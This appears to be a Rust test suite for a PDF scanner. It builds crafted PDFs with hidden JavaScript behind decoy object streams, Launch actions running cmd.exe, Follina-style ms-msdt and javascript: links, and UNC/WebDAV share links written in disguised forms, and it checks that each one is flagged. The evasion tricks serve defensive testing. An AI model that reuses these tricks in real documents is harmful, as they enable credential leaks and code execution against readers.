/// The object streams holding what the catalog reaches are decoded first; the decoy
/// still reaches the limit, which is said.
#[test]
fn a_decoy_object_stream_spending_the_decoded_bytes_hides_no_script() {
    // qpdf reads the document and runs into the script, not into the decoy (kept small
    // here: its size is not what qpdf is asked about).
    let small = objects_behind_a_decoy_stream(16, false);
    let check = Temp::new("decoy.pdf");
    std::fs::write(&check.0, &small).expect("write");
    let checked = Command::new("qpdf")
        .arg("--check")
        .arg(&check.0)
        .output()
        .expect("qpdf");
    assert!(
        checked.status.success(),
        "{}{}",
        String::from_utf8_lossy(&checked.stdout),
        String::from_utf8_lossy(&checked.stderr)
    );
    live(&small, &["/JS (app.alert\\('behind the decoy'\\))"]);
    assert_alert(&small, FindingKind::ActiveContent, "behind the decoy");

    let pdf = objects_behind_a_decoy_stream(MAX_PDF_INFLATED_BYTES, false);
    let findings = inspect_pdf(&pdf).findings;
    assert!(
        findings
            .iter()
            .any(|f| f.severity == Severity::Alert
                && f.detail.contains("app.alert('behind the decoy')")),
        "{findings:#?}"
    );
    assert!(
        findings.iter().any(|f| f.kind == FindingKind::NotInspected
            && f.detail.contains("bytes decoded by stream filters")),
        "{findings:#?}"
    );

    // Where the decoy is needed before a stream holding the script (the catalog names
    // it first), the budget does hide the script, as it would any other; the stream
    // left unread is named, beside the budget.
    let apart = objects_behind_a_decoy_stream(16, true);
    live(&apart, &["/JS (app.alert\\('behind the decoy'\\))"]);
    assert_alert(&apart, FindingKind::ActiveContent, "behind the decoy");
    let pdf = objects_behind_a_decoy_stream(MAX_PDF_INFLATED_BYTES, true);
    let script_stream = memchr::memmem::rfind(&pdf, b"7 0 obj").expect("stream 7");
    let findings = inspect_pdf(&pdf).findings;
    let cut = format!(
        "1 PDF object stream(s) not read whole, a budget reached first (at offsets {script_stream})"
    );
    for words in ["bytes decoded by stream filters", cut.as_str()] {
        assert!(
            findings.iter().any(|f| f.kind == FindingKind::NotInspected
                && f.severity == Severity::Warning
                && f.detail.contains(words)),
            "{words}: {findings:#?}"
        );
    }
}

/// Object `num` at the end of `out`, its offset recorded in `at`.
fn emit(out: &mut Vec<u8>, at: &mut [usize], num: usize, body: &[u8]) {
    at[num] = out.len();
    out.extend_from_slice(format!("{num} 0 obj\n").as_bytes());
    out.extend_from_slice(body);
    out.extend_from_slice(b"\nendobj\n");
}

/// A cross-reference stream entry: type, offset or object stream (4 bytes), generation or
/// index (2 bytes).
fn xref_entry(kind: u8, field: usize, index: u16) -> Vec<u8> {
    let mut e = vec![kind];
    e.extend_from_slice(&u32::try_from(field).expect("small").to_be_bytes());
    e.extend_from_slice(&index.to_be_bytes());
    e
}

/// Documents whose catalog (1), pages (2) and script (5) are in object stream 4, with a
/// decoy of `decoy` bytes a reader never inflates (review rv33-screen): with `older`, an
/// older `4 0 obj` no cross-reference section names; without, an older revision whose
/// cross-reference stream put the catalog in object stream 3, the decoy, where the newest
/// (its `/Prev` naming the older) puts it in 4.
fn behind_an_older_decoy(decoy: usize, older: bool) -> Vec<u8> {
    let script = "<< /S /JavaScript /JS (app.alert\\('behind the decoy'\\)) >>";
    let catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>";
    let pages = "<< /Type /Pages /Kids [] /Count 0 >>";
    let real = object_stream(&[(1, catalog), (2, pages), (5, script)], 0);
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut at = [0usize; 8];
    let free = || xref_entry(0, 0, 0);
    let xref =
        |out: &mut Vec<u8>, at: &mut [usize], num: usize, entries: Vec<Vec<u8>>, extra: &str| {
            let mut entries = entries;
            at[num] = out.len();
            entries.push(xref_entry(1, at[num], 0));
            let body = stream(
                &format!(
                    "/Type /XRef /W [1 4 2] /Size {} /Root 1 0 R {extra}",
                    num + 1
                ),
                &entries.concat(),
            );
            emit(out, at, num, &body);
        };
    let startxref = if older {
        let old = object_stream(&[(9, "<< /Decoy true >>")], decoy);
        emit(&mut out, &mut at, 4, &old);
        emit(&mut out, &mut at, 4, &real);
        let entries = vec![
            xref_entry(0, 0, 65535),
            xref_entry(2, 4, 0),
            xref_entry(2, 4, 1),
            free(),
            xref_entry(1, at[4], 0),
            xref_entry(2, 4, 2),
        ];
        xref(&mut out, &mut at, 6, entries, "");
        at[6]
    } else {
        let old = object_stream(
            &[(1, "<< /Type /Catalog /Pages 2 0 R >>"), (2, pages)],
            decoy,
        );
        emit(&mut out, &mut at, 3, &old);
        let entries = vec![
            xref_entry(0, 0, 65535),
            xref_entry(2, 3, 0),
            xref_entry(2, 3, 1),
            xref_entry(1, at[3], 0),
            free(),
            free(),
        ];
        xref(&mut out, &mut at, 6, entries, "");
        let prev = at[6];
        emit(&mut out, &mut at, 4, &real);
        let entries = vec![
            xref_entry(0, 0, 65535),
            xref_entry(2, 4, 0),
            xref_entry(2, 4, 1),
            free(),
            xref_entry(1, at[4], 0),
            xref_entry(2, 4, 2),
            xref_entry(1, prev, 0),
        ];
        xref(&mut out, &mut at, 7, entries, &format!("/Prev {prev}"));
        at[7]
    };
    out.extend_from_slice(format!("startxref\n{startxref}\n%%EOF\n").as_bytes());
    out
}

/// Review rv33-screen (issue 10): the object streams the catalog reaches were expanded
/// every version in file order, and the streams said to hold an object in file order, not
/// newest cross-reference section first: an older `4 0 obj` inflating to
/// MAX_PDF_INFLATED_BYTES that no section names, or an older section putting the catalog
/// in a decoy stream, spent the decoded bytes before the version qpdf reads, and the
/// script went unsaid. The version the newest section names is read first.
#[test]
fn an_older_version_of_an_object_stream_hides_no_script() {
    for older in [true, false] {
        let small = behind_an_older_decoy(16, older);
        live(&small, &["/JS (app.alert\\('behind the decoy'\\))"]);
        assert_alert(&small, FindingKind::ActiveContent, "behind the decoy");
        let pdf = behind_an_older_decoy(MAX_PDF_INFLATED_BYTES, older);
        let findings = inspect_pdf(&pdf).findings;
        assert!(
            findings.iter().any(|f| f.severity == Severity::Alert
                && f.detail.contains("app.alert('behind the decoy')")),
            "older version {older}: {findings:#?}"
        );
    }
}

/// Review rv33-screen: one object number under 20,000 generations, each named by the
/// catalog, held in an object stream defined 1,000 times: each generation looped over
/// every version of the stream (20 million expansions begun, 10 s in a debug build). Each
/// stream is taken once, whatever names it.
#[test]
fn many_generations_held_in_many_versions_are_read_once_each() {
    let names: Vec<String> = (0..20_000).map(|g| format!("7 {g} R")).collect();
    let catalog = format!(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Extra [{}] >>",
        names.join(" ")
    );
    let script = "<< /S /JavaScript /JS (app.alert\\('many versions'\\)) >>";
    let pages = "<< /Type /Pages /Kids [] /Count 0 >>";
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut at = [0usize; 9];
    let holder = object_stream(&[(7, "<< /Held true >>")], 0);
    for _ in 0..1_000 {
        emit(&mut out, &mut at, 3, &holder);
    }
    let real = object_stream(&[(1, &catalog), (2, pages), (5, script)], 0);
    emit(&mut out, &mut at, 4, &real);
    // One object stream nothing needs, so that the needed ones are never all there is.
    let unused = object_stream(&[(9, "<< /Unused true >>")], 0);
    emit(&mut out, &mut at, 8, &unused);
    let mut entries = vec![
        xref_entry(0, 0, 65535),
        xref_entry(2, 4, 0),
        xref_entry(2, 4, 1),
        xref_entry(1, at[3], 0),
        xref_entry(1, at[4], 0),
        xref_entry(2, 4, 2),
    ];
    at[6] = out.len();
    entries.push(xref_entry(1, at[6], 0));
    entries.push(xref_entry(2, 3, 0));
    let body = stream(
        "/Type /XRef /W [1 4 2] /Size 8 /Root 1 0 R",
        &entries.concat(),
    );
    emit(&mut out, &mut at, 6, &body);
    out.extend_from_slice(format!("startxref\n{}\n%%EOF\n", at[6]).as_bytes());
    let inspection = inspect_pdf(&out);
    assert!(
        inspection
            .findings
            .iter()
            .any(|f| f.severity == Severity::Alert && f.detail.contains("many versions")),
        "{:#?}",
        inspection.findings
    );
    // Counted, not timed: each version of each stream holding a needed object once.
    let work = inspection.work;
    assert!(work.holder_versions_visited <= 2 * 1_001, "{work:?}");
}

/// A one-page report whose page carries a link annotation per action dictionary in
/// `actions`, as written (review rv33-screen's links).
fn report_with_actions(actions: &[&str]) -> Vec<u8> {
    let annots: Vec<String> = (0..actions.len())
        .map(|i| format!("{} 0 R", 4 + i))
        .collect();
    let links: Vec<Vec<u8>> = actions
        .iter()
        .map(|a| {
            obj(&format!(
                "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A {a} >>"
            ))
        })
        .collect();
    document("", &format!("/Annots [{}]", annots.join(" ")), &links)
}

/// Review rv33-screen: a dictionary with a key twice is read by qpdf ("last occurrence
/// overrides") and mutool with the last value: `/URI (https://…) /URI (\\host\share)` was
/// a warning naming the https link, where clicking it opens the share. Every value is
/// read the way readers read it, and no earlier duplicate hides a later file share.
#[test]
fn a_duplicate_key_is_read_as_readers_read_it() {
    let pdf = report_with_actions(&[
        "<< /S /URI /URI (https://example.org/) /URI (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) >>",
    ]);
    let seen = as_qpdf_reads_it(&pdf);
    assert!(seen.contains("198.51.100.7"), "{seen}");
    assert!(!seen.contains("example.org"), "qpdf keeps the last: {seen}");
    assert_alert(&pdf, FindingKind::ActiveContent, "198.51.100.7");
    // Any earlier duplicate naming a share is an alert too.
    let pdf = report_with_actions(&[
        "<< /S /URI /URI (\\\\\\\\198.51.100.8\\\\share) /URI (https://example.org/) >>",
    ]);
    assert_alert(&pdf, FindingKind::ActiveContent, "198.51.100.8");
    // A duplicated /S: the last is the action.
    let pdf = report_with_actions(&["<< /S /GoTo /S /Launch /F (cmd.exe) >>"]);
    assert_alert(&pdf, FindingKind::ActiveContent, "Launch");
}

/// Review rv33-screen: every URI action was folded into the one links warning, the first
/// three targets named: a `javascript:`, `ms-msdt:` or `search-ms:` link behind three web
/// links went unnamed, and a share reached through another scheme (`search-ms:` with a
/// `location:\\host`, `ms-word:ofe|u|\\host`, `file:///%5C%5Chost`,
/// `file://localhost//host`) was a link. Only web and mail links are folded; each other
/// scheme is its own finding, and a share behind any scheme is an alert, as is a link to a
/// scheme whose handler runs code (`javascript:`, `ms-msdt:`, …).
#[test]
fn only_web_and_mail_links_are_folded_and_shares_behind_any_scheme_are_alerts() {
    for (share, host) in [
        (
            "search-ms:query=report&crumb=location:\\\\\\\\198.51.100.7\\\\share&",
            "198.51.100.7",
        ),
        (
            "ms-word:ofe|u|\\\\\\\\198.51.100.7\\\\share\\\\x.docx",
            "198.51.100.7",
        ),
        ("file:///%5C%5C198.51.100.7%5Cshare%5Cx.pdf", "198.51.100.7"),
        ("%5C%5C198.51.100.7%5Cshare", "198.51.100.7"),
        ("file://localhost//198.51.100.7/share/x.pdf", "198.51.100.7"),
        ("\\\\??\\\\UNC\\\\198.51.100.7\\\\share", "198.51.100.7"),
    ] {
        let pdf = report_with_actions(&[&format!("<< /S /URI /URI ({share}) >>")]);
        let findings = inspect_pdf(&pdf).findings;
        assert!(
            findings.iter().any(|f| f.severity == Severity::Alert
                && f.detail.contains(host)
                && f.detail.contains("file share")),
            "{share}: {findings:#?}"
        );
    }
    let pdf = report_with_actions(&[
        "<< /S /URI /URI (https://example.org/a) >>",
        "<< /S /URI /URI (https://example.org/b) >>",
        "<< /S /URI /URI (mailto:a@example.org) >>",
        "<< /S /URI /URI (javascript:this.exportDataObject\\({cName:'x', nLaunch:2}\\)) >>",
        "<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>",
    ]);
    let findings = inspect_pdf(&pdf).findings;
    for own in [
        "javascript:this.exportDataObject",
        "ms-msdt:/id PCWDiagnostic",
    ] {
        let mine: Vec<_> = findings.iter().filter(|f| f.detail.contains(own)).collect();
        assert_eq!(mine.len(), 1, "{own}: {findings:#?}");
        assert!(!mine[0].detail.contains("example.org"), "{mine:#?}");
        // A scheme whose handler runs code (a script, Follina's troubleshooter) is an
        // alert, as a Launch action is (the lead, after r33b-screen left them warnings).
        assert_eq!(mine[0].severity, Severity::Alert, "{mine:#?}");
    }
    let folded: Vec<_> = findings
        .iter()
        .filter(|f| f.detail.contains("3 URI actions"))
        .collect();
    assert_eq!(folded.len(), 1, "{findings:#?}");
}

// ---- task r34-screen: links resolved as readers resolve them, one link counted once ---------

/// The links MuPDF finds on the first page of `pdf`, each as it opens it (`page.getLinks()`
/// resolves a link without a scheme against the catalog's `/URI /Base`).
fn mutool_links(pdf: &[u8]) -> Vec<String> {
    let input = Temp::new("in.pdf");
    std::fs::write(&input.0, pdf).expect("write");
    let script = input.0.with_file_name("links.js");
    std::fs::write(
        &script,
        "var page = new PDFDocument(scriptArgs[0]).loadPage(0);\n\
         var links = page.getLinks();\n\
         for (var i = 0; i < links.length; i++) print(links[i].uri);\n",
    )
    .expect("write");
    let out = Command::new("mutool")
        .arg("run")
        .arg(&script)
        .arg(&input.0)
        .output()
        .expect("mutool (scripts/setup-test-deps.sh installs it)");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_owned)
        .collect()
}

/// A one-page report with one link to `uri` (a literal string's content) and `catalog_extra`.
fn report_with_link_and_catalog(uri: &str, catalog_extra: &str) -> Vec<u8> {
    let link = obj(&format!(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI ({uri}) >> >>"
    ));
    document(catalog_extra, "/Annots [4 0 R]", &[link])
}

/// Task r34-screen: a scheme-relative link (`//cdn.example.org/x`) was a file-share alert
/// even with an `https:` `/URI /Base`, where MuPDF opens `https://…`: a web link written
/// that way paged someone. Without a base MuPDF opens `file:////cdn.example.org/x` (and
/// Windows' shell reads `//host/path` as UNC): that stays an alert.
#[test]
fn a_scheme_relative_link_is_resolved_against_the_base_as_readers_do() {
    let base = "/URI << /Base (https://example.org/reports/) >>";
    let pdf = report_with_link_and_catalog("//cdn.example.org/x", base);
    let opened = mutool_links(&pdf);
    assert_eq!(opened.len(), 1, "{opened:?}");
    assert!(opened[0].starts_with("https://"), "{opened:?}");
    let findings = inspect_pdf(&pdf).findings;
    assert!(of(&findings, Severity::Alert).is_empty(), "{findings:#?}");
    let links = uri_findings(&findings);
    assert_eq!(links.len(), 1, "{findings:#?}");
    assert_eq!(links[0].severity, Severity::Warning);
    assert!(
        links[0].detail.contains("https://cdn.example.org/x"),
        "{links:#?}"
    );

    let pdf = report_with_link_and_catalog("//198.51.100.7/share/x.pdf", "");
    assert_eq!(
        mutool_links(&pdf),
        ["file:////198.51.100.7/share/x.pdf"],
        "MuPDF opens a file share"
    );
    assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    // A base that is itself a share makes the link one.
    let pdf = report_with_link_and_catalog(
        "//198.51.100.7/share/x.pdf",
        "/URI << /Base (file:///C:/reports/) >>",
    );
    assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    // A backslash is never a web link's: the UNC path stays an alert under any base.
    let pdf = report_with_link_and_catalog("\\\\\\\\198.51.100.7\\\\share", base);
    assert_alert(&pdf, FindingKind::ActiveContent, "file share");
}

/// Session 35 (issue 10): `//evil@SSL/DavWWWRoot/x` under an `https:` `/URI /Base` was a
/// web-link warning: MuPDF joins it to `https://evil@SSL/…`, but a reader or shell that
/// takes the link as written (Windows' shell, readers ignoring `/Base`) opens the WebDAV
/// share `\\evil@SSL\DavWWWRoot`, credentials sent, and no web address is written so.
/// A scheme-relative link in a WebDAV UNC form (`host@SSL`, `host@port`, `DavWWWRoot`,
/// escapes undone) is a share under any base.
#[test]
fn a_webdav_unc_form_is_a_share_under_any_base() {
    let base = "/URI << /Base (https://example.org/reports/) >>";
    let pdf = report_with_link_and_catalog("//evil@SSL/DavWWWRoot/x", base);
    let opened = mutool_links(&pdf);
    assert_eq!(opened.len(), 1, "{opened:?}");
    assert!(opened[0].starts_with("https://"), "{opened:?}");
    assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    for link in [
        "//evil.example@SSL@443/reports/x.pdf",
        "//evil.example@8080/x.pdf",
        "//evil.example/DavWWWRoot/x.pdf",
        "//evil.example%40SSL/x.pdf",
        "//EVIL@ssl/davwwwroot",
    ] {
        let pdf = report_with_link_and_catalog(link, base);
        assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    }
    // A web address with credentials and a port is still a web link.
    let pdf = report_with_link_and_catalog("//cdn.example.org:8443/x", base);
    assert!(
        of(&inspect_pdf(&pdf).findings, Severity::Alert).is_empty(),
        "a port after a colon is a web address's"
    );
}

/// Task r34-screen: `file:/\/host/share` (a hex string: the bytes as written) was a
/// "not a web link" warning where `file://host/share` is a file-share alert: the
/// separators after `file:` are one run, `/` and `\` alike.
#[test]
fn file_urls_mixing_slashes_and_backslashes_are_one_class() {
    for written in [
        "file:/\\/198.51.100.7/share",
        "file:\\/198.51.100.7/share",
        "file:\\\\\\198.51.100.7\\share",
        "file://198.51.100.7/share",
    ] {
        let hex: String = written.bytes().map(|b| format!("{b:02x}")).collect();
        let pdf = report_with_actions(&[&format!("<< /S /URI /URI <{hex}> >>")]);
        let findings = inspect_pdf(&pdf).findings;
        assert!(
            findings.iter().any(|f| f.severity == Severity::Alert
                && f.detail.contains("file share")
                && f.detail.contains("198.51.100.7")),
            "{written}: {findings:#?}"
        );
    }
}

/// Task r34-screen: `/S /URI /S /URI` in one action dictionary was two links ("2 URI
/// actions … to 1 distinct targets"): an action type written twice is one action.
#[test]
fn an_action_type_written_twice_is_one_action() {
    let pdf = report_with_actions(&["<< /S /URI /URI (https://example.org/) /S /URI >>"]);
    let findings = inspect_pdf(&pdf).findings;
    let links = uri_findings(&findings);
    assert_eq!(links.len(), 1, "{findings:#?}");
    assert!(
        links[0]
            .detail
            .contains("URI action (\"https://example.org/\")"),
        "{links:#?}"
    );
    let pdf = report_with_actions(&["<< /S /Launch /F (cmd.exe) /S /Launch >>"]);
    let findings = inspect_pdf(&pdf).findings;
    let launches = of(&findings, Severity::Alert);
    assert_eq!(launches.len(), 1, "{launches:#?}");
}

/// Task r34-screen: once any limit was reached (here the nesting depth, by another object),
/// an object stream whose data does not inflate was said to be "not read whole, a budget
/// reached first": the true reason is that it could not be decoded.
#[test]
fn a_broken_object_stream_is_said_broken_whatever_limit_was_reached_elsewhere() {
    let deep = format!(
        "<< /Deep {}0{} >>",
        "[".repeat(MAX_PDF_NESTING_DEPTH + 4),
        "]".repeat(MAX_PDF_NESTING_DEPTH + 4)
    );
    let mut held = object_stream(&[(6, "<< /S /JavaScript /JS (held) >>")], 0);
    let data = memchr::memmem::find(&held, b"stream\n").expect("data") + b"stream\n".len();
    held[data..data + 2].copy_from_slice(b"\0\0"); // no zlib header: inflate refuses it
    let pdf = document("/OpenAction 6 0 R", "", &[obj(&deep), held]);
    let findings = inspect_pdf(&pdf).findings;
    assert!(
        findings
            .iter()
            .any(|f| f.kind == FindingKind::NotInspected && f.detail.contains("nesting depth")),
        "the nesting limit is reached: {findings:#?}"
    );
    assert!(
        findings
            .iter()
            .any(|f| f.detail.contains("object stream at offset")
                && f.detail.contains("could not be decoded")),
        "{findings:#?}"
    );
    assert!(
        !findings
            .iter()
            .any(|f| f.detail.contains("a budget reached first")),
        "{findings:#?}"
    );
}

/// Review rv34-screen: a `/URI /Base` without a scheme was ignored, while MuPDF puts it in
/// front of a relative link: under `\\evil\share\`, `x.pdf` is the share
/// `\\evil\share\x.pdf` (and so under `//evil/share/` and `file://evil/share/`). The link
/// is joined as MuPDF joins it, and the result tested: a share base makes a share.
#[test]
fn a_relative_link_under_a_share_base_is_a_share() {
    for (base, opened) in [
        (
            "\\\\\\\\198.51.100.7\\\\share\\\\",
            "\\\\198.51.100.7\\share\\x.pdf",
        ),
        ("//198.51.100.7/share/", "//198.51.100.7/share/x.pdf"),
        (
            "file://198.51.100.7/share/",
            "file://198.51.100.7/share/x.pdf",
        ),
    ] {
        let pdf = report_with_link_and_catalog("x.pdf", &format!("/URI << /Base ({base}) >>"));
        assert_eq!(mutool_links(&pdf), [opened], "MuPDF joins base and link");
        assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    }
}

/// Review rv34-screen: `//host/share` took the scheme of any base, so under `/Base (C:)`
/// or `(x-foo:)` the share alert became a "not a web link" warning. Only a web base
/// (`http:`, `https:`) lends its scheme; under any other the UNC path stays an alert.
#[test]
fn a_scheme_relative_link_takes_only_a_web_bases_scheme() {
    for base in ["C:", "x-foo:", "file:///C:/reports/"] {
        let pdf = report_with_link_and_catalog(
            "//198.51.100.7/share/x.pdf",
            &format!("/URI << /Base ({base}) >>"),
        );
        assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    }
    let pdf = report_with_link_and_catalog("//cdn.example.org/x", "/URI << /Base (HTTPS:) >>");
    let findings = inspect_pdf(&pdf).findings;
    assert!(of(&findings, Severity::Alert).is_empty(), "{findings:#?}");
}

/// Review rv34-screen: `file:\t//host/share` was a "not a web link" warning: URL parsers
/// drop tabs and line breaks inside a URL (WHATWG), so it is `file://host/share`. Every
/// test of a link reads it without them.
#[test]
fn tabs_and_line_breaks_inside_a_link_are_dropped_before_it_is_read() {
    for written in [
        "file:\\t//198.51.100.7/share",
        "file:/\\n/198.51.100.7/share",
        "fi\\tle://198.51.100.7/share",
        "\\t/\\r/198.51.100.7/share",
    ] {
        let pdf = report_with_link_and_catalog(written, "");
        assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    }
}

/// Review rv34-screen: in a PDF without a trailer the catalog was the first object typed
/// `/Catalog`; MuPDF's repair takes the last, in the version of its number read last. An
/// early catalog's `https:` `/Base` made `//evil/share/x` a web link while MuPDF opens
/// `file:////evil/share/x`.
#[test]
fn a_document_without_a_trailer_is_read_with_the_catalog_mupdf_reads() {
    let with_base = "<< /Type /Catalog /Pages 2 0 R /URI << /Base (https://example.org/) >> >>";
    let without = "<< /Type /Catalog /Pages 2 0 R >>";
    let rest = [
        (2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (
            3,
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
        ),
        (
            4,
            "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (//198.51.100.7/share/x) >> >>",
        ),
    ];
    // One object number written twice, the base in the first version; two numbers.
    for last in [(1, without), (5, without)] {
        let mut pdf = b"%PDF-1.7\n".to_vec();
        for (num, body) in [(1, with_base)].into_iter().chain(rest).chain([last]) {
            pdf.extend_from_slice(format!("{num} 0 obj\n{body}\nendobj\n").as_bytes());
        }
        pdf.extend_from_slice(b"%%EOF\n");
        assert_eq!(mutool_links(&pdf), ["file:////198.51.100.7/share/x"]);
        assert_alert(&pdf, FindingKind::ActiveContent, "file share");
    }
}
